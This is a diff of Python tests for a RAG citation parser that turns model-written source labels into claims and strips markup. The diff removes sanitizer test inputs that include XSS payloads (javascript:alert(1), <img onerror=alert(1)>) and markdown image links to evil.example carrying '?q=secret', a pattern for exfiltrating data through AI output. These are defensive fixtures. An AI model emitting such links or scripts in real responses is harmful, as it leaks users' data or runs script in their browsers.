@@ -3,130 +3,13 @@
 import re
 from collections.abc import Sequence
 
-import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from written import WRITTEN
 
 from rag.checking.surroundings import surroundings
-from rag.citations import Citer, cite_sentences, read_claims
-from rag.text.plain import plain
+from rag.citations import Citer, cite_sentences
 from rag.types import Claim, Evidence
-
-FERRY, ALL = "The ferry sank.", "All survived."
-
-# What a model wrote, and the claims with their labels that it must become.
-SHAPES: list[tuple[str, list[tuple[str, str]]]] = [
-    ("The ferry sank. [S3]", [(FERRY, "S3")]),
-    ("The ferry sank [S3].", [(FERRY, "S3")]),
-    ("The ferry sank. [S3].", [(FERRY, "S3")]),
-    ("The ferry sank. [s3]", [(FERRY, "S3")]),
-    ("The ferry sank. [S3, S4] All survived. [S5]", [(FERRY, "S3 S4"), (ALL, "S5")]),
-    ("The ferry sank.[S3][S4]All survived.", [(FERRY, "S3 S4"), (ALL, "")]),
-    ("The ferry sank. [S1; S2] [S3]", [(FERRY, "S1 S2 S3")]),
-    ("The ferry sank [S3] and [S4].", [(FERRY, "S3 S4")]),
-    ("The ferry sank [S3-S5].", [(FERRY, "S3 S4 S5")]),
-    ("The ferry sank [S3–5].", [(FERRY, "S3 S4 S5")]),
-    ("The ferry sank (S3).", [(FERRY, "S3")]),
-    ("The ferry sank. (S3) All survived. (S4)", [(FERRY, "S3"), (ALL, "S4")]),
-    ("The ferry sank (S1, S2) on Monday.", [("The ferry sank on Monday.", "S1 S2")]),
-    ("The ferry sank.【S3】", [(FERRY, "S3")]),
-    ("The ferry sank. 【3†source】", [(FERRY, "S3")]),
-    ("The ferry sank. S3.", [(FERRY, "S3")]),
-    ("The ferry sank S3.", [(FERRY, "S3")]),
-    ("The ferry sank. S3", [(FERRY, "S3")]),
-    ("The ferry sank. S3, S4 All survived. S5", [(FERRY, "S3 S4"), (ALL, "S5")]),
-    ("The ferry [S1] sank off Norway [S2].", [("The ferry sank off Norway.", "S1 S2")]),
-    ("The ferry sank, [S1] but all survived. [S2]",
-     [("The ferry sank, but all survived.", "S1 S2")]),
-    ("The ferry sank. [Source 3]", [(FERRY, "S3")]),
-    ("The ferry sank (Source: S3).", [(FERRY, "S3")]),
-    ("The ferry sank [Sources 1 and 2].", [(FERRY, "S1 S2")]),
-    ("The ferry sank.[3] All survived. [4]", [(FERRY, "S3"), (ALL, "S4")]),
-    ("The ferry sank. [^3]", [(FERRY, "S3")]),
-    ("The ferry sank. **[S3]**", [(FERRY, "S3")]),
-    ("The ferry sank.^[S3]", [(FERRY, "S3")]),
-    (r"The ferry sank. \[S3\]", [(FERRY, "S3")]),
-    ("The ferry sank. <sup>[S3]</sup>", [(FERRY, "S3")]),
-    ("The ferry sank. [S3](https://evil.example/?q=1)", [(FERRY, "S3")]),
-    ('The ferry sank. [S3: "It sank at 10"]', [(FERRY, "S3")]),
-    ("The ferry sank. [S3", [(FERRY, "S3")]),
-    ("[S1] The ferry sank. [S2] All survived.", [(FERRY, "S1"), (ALL, "S2")]),
-    ("S3: The ferry sank.", [(FERRY, "S3")]),
-    ("[S3] reports that the ferry sank. [S4] says all survived.", [(FERRY, "S3"), (ALL, "S4")]),
-    ("According to [S3], the ferry sank.", [(FERRY, "S3")]),
-    ("The ferry sank, according to [S3].", [(FERRY, "S3")]),
-    ("The ferry sank. As stated in [S4], all survived.", [(FERRY, ""), (ALL, "S4")]),
-    ("The ferry sank. All survived. [S1] [S2]", [(FERRY, ""), (ALL, "S1 S2")]),
-    ("The ferry sank [S1] The crew survived [S2]",
-     [("The ferry sank", "S1"), ("The crew survived", "S2")]),
-    ("The ferry sank.\n[S3]\n\nAll survived.\n[S4]", [(FERRY, "S3"), (ALL, "S4")]),
-    ("The ferry sank. All survived.\n\nSources:\n[S1]\n[S2]", [(FERRY, ""), (ALL, "S1 S2")]),
-    ("- The ferry **Aurora** sank. [S1]\n- All survived. [S2]",
-     [("The ferry Aurora sank.", "S1"), (ALL, "S2")]),
-    ("1. The ferry sank. [S1]\n2. All survived. [S2]", [(FERRY, "S1"), (ALL, "S2")]),
-    ("Answer: The ferry sank. [S1]", [(FERRY, "S1")]),
-    ("The ferry sank in the U.S. [S3] All survived.",
-     [("The ferry sank in the U.S.", "S3"), (ALL, "")]),
-    ("At 5 p.m. [S3] on Monday it sank.", [("At 5 p.m. on Monday it sank.", "S3")]),
-    ("The ferry “Aurora sank.” [S1] All survived.",
-     [("The ferry “Aurora sank.”", "S1"), (ALL, "")]),
-    # not labels
-    ("The S&P 500 fell. [S1]", [("The S&P 500 fell.", "S1")]),
-    ("The G7 met. [S1]", [("The G7 met.", "S1")]),
-    ('He wrote "teh [sic] end". [S2]', [('He wrote "teh [sic] end".', "S2")]),
-    ("It trades with (S. Korea) now.", [("It trades with (S. Korea) now.", "")]),
-    ("He bought a Galaxy S23. [S4]", [("He bought a Galaxy S23.", "S4")]),
-    ("The score was 2-1 (2-0).", [("The score was 2-1 (2-0).", "")]),
-    ("In [2019] it sank (3 dead).", [("In [2019] it sank (3 dead).", "")]),
-    ("The S3 line closed on Monday. [S2]", [("The S3 line closed on Monday.", "S2")]),
-    # nothing
-    ("", []),
-    ("[S1]", []),
-    ("…", []),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize(("text", "claims"), SHAPES)
-def test_shape(text: str, claims: list[tuple[str, str]]) -> None:
-    drafts = read_claims(text, complete=True)
-    assert [(draft.text, " ".join(draft.labels)) for draft in drafts] == claims
-
-
-@pytest.mark.parametrize(
-    ("text", "settled"),
-    [
-        ("The ferry sank. [S3]", 0),  # a second label may follow
-        ("The ferry sank. [S3] All", 0),  # "All" may still become a label's word
-        ("The ferry sank. [S3] All survived", 1),
-        ("The ferry sank. All survived. [S", 1),
-        ("It sank off the U.S. ", 0),
-        ("“Did it sink?” All", 0),
-        ("“Did it sink?” All of them", 0),  # … "said at once" would make it one sentence
-    ],
-)
-def test_only_what_can_no_longer_change_is_settled(text: str, settled: int) -> None:
-    assert len(read_claims(text, complete=False)) == settled
-
-
-# --- plain text -------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("It sank ![map](https://evil.example/?q=secret) off Norway.", "It sank map off Norway."),
-        ("It [sank](javascript:alert(1)) there.", "It sank) there."),
-        ("It <img src=x onerror=alert(1)>sank.", "It sank."),
-        ("It <<b>script>alert(1)</script> sank.", "It alert(1) sank."),
-        ("It sank <img src=https://evil.example/", "It sank "),
-        ("Losses < gains, 3 > 2.", "Losses < gains, 3 > 2."),
-        ("## News\n> It **sank** and `all` *survived*.", "News\nIt sank and all survived."),
-        ("<think>S1 says so</think>It sank.", "It sank."),
-        ("See https://evil.example/?q=secret now.", "See  now."),
-    ],
-)
-def test_markup_goes_and_words_stay(text: str, shown: str) -> None:
-    assert plain(text) == shown
 
 
 @settings(max_examples=200)
@@ -284,29 +167,6 @@ def test_sentences_cite_themselves() -> None:
 
 
 # --- streaming --------------------------------------------------------------------------------
-
-PIECES = st.sampled_from(
-    [
-        "The ferry Aurora sank off Norway on Monday", "All 225 people were rescued",
-        "Nordlink bought the ship in 2011", "Shares fell by 5% in the U.S",
-        "“Did it sink?” he said",
-        "It cost $1.4bn, e.g. in parts", "the S&P 500 (S. Korea) rose", "At 5 p.m. it left", "S",
-        ". ", ".", "! ", "? ", ", ", "\n", "\n\n", " ", "- ", "**", "1. ", "Sources:\n",
-        "[S1]", "[S2]", " [S3]", "[S3, S4]", "[S1-S3]", "(S2)", "【S4】", "S3.", " S1", "[9]",
-        "[sic]",
-        "[S1](https://evil.example)", "![x](https://evil.example)", "<b>", "According to [S2], ",
-    ]
-)  # fmt: skip
-WRITTEN = st.lists(PIECES, max_size=14).map("".join)
-
-
-@settings(max_examples=100, deadline=None)
-@given(WRITTEN)
-def test_claims_that_settled_stay(text: str) -> None:
-    whole = read_claims(text, complete=True)
-    for end in range(len(text)):
-        settled = read_claims(text[:end], complete=False)
-        assert settled == whole[: len(settled)], text[:end]
 
 
 @settings(max_examples=60, deadline=None)
